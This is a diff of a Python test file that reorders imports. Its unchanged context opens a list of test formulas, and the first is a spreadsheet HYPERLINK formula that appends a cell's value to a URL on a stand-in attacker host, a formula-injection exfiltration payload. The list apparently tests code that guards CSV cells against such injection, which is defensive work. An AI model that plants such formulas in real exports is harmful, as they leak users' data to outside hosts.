@@ -5,6 +5,8 @@ import io
 import json
 
 import pytest
+from eyechart.vlm.tables import dump, load_table
+from eyechart.vlm.xlsx import read_xlsx, write_xlsx
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -12,8 +14,6 @@ from eyechart.cli import main
 from eyechart.compat.evalscope.comparison import Way, as_csv, as_markdown, compare
 from eyechart.io.cells import csv_text, guarded, is_formula, unguarded
 from eyechart.report.load import load_results
-from eyechart.vlm.tables import dump, load_table
-from eyechart.vlm.xlsx import read_xlsx, write_xlsx
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/"&A1)',
